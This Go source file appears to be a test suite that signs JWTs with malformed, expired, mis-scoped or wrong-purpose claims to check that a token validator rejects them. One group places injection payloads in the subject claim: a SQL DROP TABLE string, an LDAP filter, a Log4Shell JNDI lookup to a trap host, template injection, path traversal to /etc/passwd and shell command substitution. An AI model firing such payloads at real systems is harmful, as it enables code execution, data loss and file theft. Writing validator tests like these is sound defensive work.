package attack

import (
	"fmt"
	"strings"
	"time"
)

// claimGroups are the attacks on what a token says, by the right key.
var claimGroups = []group{
	{"J080", "exp that is no time to come", attackExpKind},
	{"J081", "exp far away", attackExpHuge},
	{"J082", "expired", attackExpired},
	{"J083", "nbf, iat and lifetime", attackTimes},
	{"J084", "iss", attackIssuer},
	{"J085", "aud", attackAudience},
	{"J086", "aud names others too", attackAudiences},
	{"J087", "token of another deployment", attackDeployment},
	{"J088", "sub", attackSubject},
	{"J089", "scope of another kind", attackScope},
	{"J090", "claims that are missing", attackMissing},
	{"J092", "JWT of another purpose", attackPurpose},
	{"J101", "text that is a command elsewhere", attackInjection},
}

// each signs one token for each value of a claim.
func (m *maker) each(claim string, values ...string) {
	for _, v := range values {
		m.bad(fmt.Sprintf("%s %.60s of %d", claim, v, len(v)), m.sign(m.header(), m.claims().with(claim, v)))
	}
}

func attackExpKind(m *maker) {
	m.bad("missing", m.sign(m.header(), m.claims().without("exp")))
	soon := m.at(30 * time.Second)
	m.each("exp", "null", `""`, quote(soon), quote("never"), "1.5", "1e3", "-1", "0", "-0", "true", "false", "[]", "["+soon+"]", "{}", `"Infinity"`, `"NaN"`)
}

func attackExpHuge(m *maker) {
	m.each("exp", "1e30", "1e400", "9223372036854775807", "9223372036854775808", "18446744073709551616", "253402300799", "253402300800",
		m.at(30*time.Second)+"000", "-9223372036854775809", strings.Repeat("9", 400))
}

func attackExpired(m *maker) {
	m.bad("11 seconds ago", m.sign(m.header(), m.claims().with("iat", m.at(-60*time.Second)).with("exp", m.at(-11*time.Second))))
	m.bad("an hour ago", m.sign(m.header(), m.claims().with("iat", m.at(-61*time.Minute)).with("exp", m.at(-time.Hour))))
	m.bad("in 1970", m.sign(m.header(), m.claims().with("iat", "1").with("exp", "60")))
	m.bad("before it was issued", m.sign(m.header(), m.claims().with("exp", m.at(-70*time.Second))))
	m.good("lives for 60 s", m.sign(m.header(), m.claims().with("iat", m.at(-5*time.Second)).with("exp", m.at(55*time.Second))))
}

func attackTimes(m *maker) {
	m.good("nbf in the past", m.sign(m.header(), m.claims().with("nbf", m.at(-time.Second))))
	m.each("nbf", m.at(90*time.Second), m.at(time.Hour), quote(m.at(-time.Second)), "null", "true", "[]", "{}", "1e400")
	m.bad("iat missing", m.sign(m.header(), m.claims().without("iat")))
	m.each("iat", "null", quote(m.at(-time.Second)), "true", "[]", "{}", "0", "1", "-1", "1e400", m.at(-time.Hour), m.at(90*time.Second))
	m.bad("iat in the future, exp behind it", m.sign(m.header(), m.claims().with("iat", m.at(90*time.Second)).with("exp", m.at(150*time.Second))))
	m.bad("iat after exp", m.sign(m.header(), m.claims().with("iat", m.at(70*time.Second))))
	m.bad("lives for an hour", m.sign(m.header(), m.claims().with("exp", m.at(time.Hour))))
	m.bad("lives for two minutes", m.sign(m.header(), m.claims().with("exp", m.at(2*time.Minute))))
}

func attackIssuer(m *maker) {
	iss := m.t.Issuer
	m.bad("missing", m.sign(m.header(), m.claims().without("iss")))
	bare := strings.TrimPrefix(iss, "https://")
	m.each("iss", `""`, "null", "0", "{}", "["+quote(iss)+"]", "["+quote(iss)+`,"https://other.example"]`, quote(iss+"/"), quote(strings.ToUpper(iss)), quote("http://"+bare),
		quote(iss+":443"), quote("https://user@"+bare), quote(iss+"?x"), quote(iss+"#x"), quote(bare), quote(iss[:len(iss)-1]), quote(iss+".attacker.invalid"),
		quote("https://attacker.invalid/"+iss), quote(" "+iss), quote(iss+" "), quote(iss+"\x00"), quote("*"), quote(".*"))
}

func attackAudience(m *maker) {
	aud := m.t.Audience
	m.bad("missing", m.sign(m.header(), m.claims().without("aud")))
	m.each("aud", `""`, "null", "0", "true", "{}", "[]", "[null]", "[0]", `[""]`, "[["+quote(aud)+"]]", "{"+quote(aud)+":1}", quote(aud+"/"), quote(strings.ToUpper(aud)), quote(aud[:len(aud)-1]),
		quote(aud+"x"), quote("x"+aud), quote(aud+"/admin"), quote(aud+" "), quote(aud+" https://other.example"), quote("*"), quote(".*"), quote("https://other.example"), quote(m.t.Issuer))
}

func attackAudiences(m *maker) {
	aud := quote(m.t.Audience)
	m.each("aud", "["+aud+`,"https://other.example"]`, `["https://other.example",`+aud+"]", "["+aud+",null]", "["+aud+",1]", "["+aud+","+aud+"]", "["+aud+`,""]`)
}

func attackDeployment(m *maker) {
	stage := m.claims().with("iss", `"https://stage.example"`)
	m.bad("iss of it, our key and audience", m.sign(m.header(), stage))
	m.bad("its key", m.t.Foreign.compact(m.header().with("alg", quote(m.t.Foreign.Algorithm)).String(), stage.String()))
}

func attackSubject(m *maker) {
	m.bad("missing", m.sign(m.header(), m.claims().without("sub")))
	m.each("sub", `""`, "null", "0", "1", "true", "[]", "{}", "["+quote(Subject)+"]", `{"$ne":""}`)
}

func attackScope(m *maker) {
	m.each("scope", "null", "0", "true", `["catalog.read"]`, `[]`, "{}", `{"catalog.read":true}`)
	m.good("empty scope", m.sign(m.header(), m.claims().with("scope", `""`)))
}

func attackMissing(m *maker) {
	m.bad("no client_id", m.sign(m.header(), m.claims().without("client_id")))
	m.each("client_id", `""`, "null", "0", "[]", `["shop-app"]`, "{}")
	m.bad("no jti", m.sign(m.header(), m.claims().without("jti")))
	m.bad("nothing but sub", m.sign(m.header(), object{{"sub", quote(Subject)}}))
	m.bad("nothing", m.sign(m.header(), object{}))
	m.good("more than is known", m.sign(m.header(), m.claims().with("acr", `"1"`).with("amr", `["pwd"]`).with("grant", `"g"`)))
}

func attackPurpose(m *maker) {
	for _, typ := range otherTypes {
		m.bad(typ, m.sign(m.header().with("typ", quote(typ)), m.claims()))
	}
	m.bad("ID token", m.sign(m.header().with("typ", `"JWT"`), m.claims().with("nonce", `"n"`).with("aud", `"shop-app"`)))
	m.bad("logout token", m.sign(m.header().with("typ", `"logout+jwt"`), m.claims().with("events", `{"http://schemas.openid.net/event/backchannel-logout":{}}`)))
	m.bad("DPoP proof", m.sign(m.header().with("typ", `"dpop+jwt"`).with("jwk", m.t.Key.JWK()), object{{"jti", `"1"`}, {"htm", `"GET"`}, {"htu", quote(m.t.Audience)}, {"iat", m.at(0)}}))
	m.bad("opaque access token", "spat_AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4v")
	m.bad("opaque refresh token", "sprt_AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4v")
}

func attackInjection(m *maker) {
	for _, sub := range []string{"x'; DROP TABLE users; --", "*)(uid=*", "${jndi:ldap://" + Trap + "/a}", "{{7*7}}", "../../etc/passwd", "http://" + Trap + "/", "`id`", "-1", "null"} {
		m.good("sub "+sub, m.sign(m.header(), m.claims().with("sub", quoteUTF8(sub))))
	}
}
